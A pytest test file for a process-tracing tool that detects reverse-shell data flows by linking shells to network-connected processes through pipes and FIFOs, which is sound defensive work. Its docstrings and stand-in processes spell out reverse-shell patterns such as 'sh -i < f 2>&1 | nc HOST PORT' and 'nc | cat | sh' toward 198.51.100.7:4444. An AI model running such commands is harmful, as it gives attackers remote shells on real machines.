"""Data-flow links (tracer/flows.py) between real processes joined by real pipes and FIFOs (no root:
a user reads its own processes' /proc/PID/fd). The connect records are written by hand."""

from __future__ import annotations

import os
import subprocess
import sys

import pytest

from tracer.flows import FlowTracker, read_open_files
from tracer.proctree import Process, read_stat

SLEEP = [sys.executable, "-c", "import time; time.sleep(30)"]


def proc_of(popen: subprocess.Popen, comm: bytes, argv: list[str], agent: int = 7) -> Process:
    st = read_stat(popen.pid)
    return Process(popen.pid, st.start_ticks, os.getpid(), comm=comm, exe=argv[0].encode(),
                   argv=[a.encode() for a in argv], agent_id=agent)


def connect(p: Process, scope: str = "external", result: str = "ok") -> dict:
    return {"kind": "event", "type": "connect", "time": "2026-12-03T10:00:00.000000000Z", "agent": {"id": "a"},
            "process": {"pid": p.pid}, "network": {"daddr": "198.51.100.7", "dport": 4444, "scope": scope,
                                                   "result": result, "protocol": "tcp"}}


def execd(p: Process) -> dict:
    return {"kind": "event", "type": "exec", "time": "2026-12-03T10:00:01.000000000Z", "agent": {"id": "a"},
            "process": {"pid": p.pid}, "exec": {"result": "ok"}}


@pytest.fixture
def procs():
    started: list[subprocess.Popen] = []

    def start(argv, **kw):
        p = subprocess.Popen(argv, **kw)
        started.append(p)
        return p

    yield start
    for p in started:
        p.kill()
        p.wait()


def test_read_open_files_sees_pipe_ends_and_fifos(procs, tmp_path):
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    r, w = os.pipe()
    rfd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    child = procs(SLEEP, stdin=r, stdout=w, stderr=subprocess.DEVNULL, pass_fds=(rfd,))
    os.close(r), os.close(w), os.close(rfd)
    files = {f.fd: f for f in read_open_files(child.pid, read_stat(child.pid).start_ticks)}
    assert files[0].kind == "pipe" and files[0].reads and not files[0].writes
    assert files[1].kind == "pipe" and files[1].writes and not files[1].reads
    assert files[0].obj == files[1].obj  # both ends of one pipe
    assert files[rfd].kind == "fifo" and files[rfd].path == str(fifo) and files[rfd].reads
    assert read_open_files(child.pid, read_stat(child.pid).start_ticks + 5) is None  # another process now


def test_a_shell_between_a_fifo_and_a_pipe_of_nc_is_linked_both_ways(procs, tmp_path):
    """sh -i < f 2>&1 | nc HOST PORT > f, with sleeping stand-ins holding the same fds."""
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    frd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    fwr = os.open(fifo, os.O_WRONLY)
    r, w = os.pipe()
    sh = procs(SLEEP, stdin=frd, stdout=w, stderr=w)
    nc = procs(SLEEP, stdin=r, stdout=fwr)
    for fd in (frd, fwr, r, w):
        os.close(fd)
    sh_p, nc_p = proc_of(sh, b"sh", ["/bin/sh", "-i"]), proc_of(nc, b"nc", ["nc", "198.51.100.7", "4444"])
    flows = FlowTracker()
    assert flows.observe(execd(sh_p), sh_p) == []  # no holder yet: nothing is read
    assert flows.scans == 0
    links = flows.observe(connect(nc_p), nc_p)
    assert len(links) == 1
    link = links[0]
    assert link["type"] == "pipe_link" and link["process"]["pid"] == sh.pid
    assert link["link"]["stdin"] and link["link"]["stdout"]
    assert link["link"]["via"] == ["fifo", "pipe"] and link["link"]["fifo_paths"] == [str(fifo)]
    assert link["link"]["peer"]["pid"] == nc.pid and link["link"]["peer"]["argv"][0] == "nc"
    assert link["link"]["relays"] == [] and link["network"]["dport"] == 4444
    # Told once: a second connect of the same holder, or an exec, finds nothing new.
    assert flows.observe(connect(nc_p), nc_p) == []
    assert flows.observe(execd(sh_p), sh_p) == []


def test_a_relay_between_holder_and_shell(procs):
    """nc | cat | sh: the shell's stdin is reached through cat, named as a relay."""
    r1, w1 = os.pipe()
    r2, w2 = os.pipe()
    nc = procs(SLEEP, stdout=w1)
    cat = procs(SLEEP, stdin=r1, stdout=w2)
    sh = procs(SLEEP, stdin=r2)
    for fd in (r1, w1, r2, w2):
        os.close(fd)
    nc_p, cat_p, sh_p = (proc_of(nc, b"nc", ["nc"]), proc_of(cat, b"cat", ["cat"]), proc_of(sh, b"sh", ["sh"]))
    flows = FlowTracker()
    flows.observe(execd(cat_p), cat_p)
    flows.observe(execd(sh_p), sh_p)
    links = {rec["process"]["pid"]: rec["link"] for rec in flows.observe(connect(nc_p), nc_p)}
    assert links[cat.pid]["stdin"] and links[cat.pid]["relays"] == []
    assert links[sh.pid]["stdin"] and not links[sh.pid]["stdout"]
    assert [r["pid"] for r in links[sh.pid]["relays"]] == [cat.pid]


def test_no_link_without_an_outside_connection_or_across_agents(procs):
    r, w = os.pipe()
    holder = procs(SLEEP, stdout=w)
    reader = procs(SLEEP, stdin=r)
    os.close(r), os.close(w)
    h = proc_of(holder, b"nc", ["nc"])
    other_agent = proc_of(reader, b"sh", ["sh"], agent=8)
    flows = FlowTracker()
    flows.observe(execd(other_agent), other_agent)
    assert flows.observe(connect(h, scope="loopback"), h) == []
    assert flows.observe(connect(h, result="ECONNREFUSED"), h) == []
    assert flows.observe(connect(h), h) == []  # the reader is another agent's
    same = proc_of(reader, b"sh", ["sh"], agent=7)
    links = flows.observe(execd(same), same)  # an exec while a holder lives: looked at again
    assert [rec["process"]["pid"] for rec in links] == [reader.pid]


def test_scans_are_bounded_per_second_and_caught_up_by_tick(procs):
    now = [100.0]
    flows = FlowTracker(clock=lambda: now[0])
    r, w = os.pipe()
    holder = procs(SLEEP, stdout=w)
    os.close(w)
    h = proc_of(holder, b"nc", ["nc"])
    flows.observe(connect(h), h)
    for _ in range(40):
        flows.observe(execd(h), h)
    assert flows.scans == 20  # the budget: SCANS_PER_SECOND
    reader = procs(SLEEP, stdin=r)
    os.close(r)
    rp = proc_of(reader, b"sh", ["sh"])
    assert flows.observe(execd(rp), rp) == []  # over budget: waits
    now[0] += 1.5
    links = flows.tick(lambda aid: {"id": f"agent-{aid}"})
    assert [rec["process"]["pid"] for rec in links] == [reader.pid] and links[0]["agent"] == {"id": "agent-7"}


def test_exit_forgets_the_process():
    flows = FlowTracker()
    p = Process(999_999_999 % 4_000_000 + 1, 1, 1, comm=b"x", agent_id=3)
    flows.observe(execd(p), p)
    flows.observe({"kind": "event", "type": "exit", "process": {"pid": p.pid}}, p)
    assert flows._agents == {}
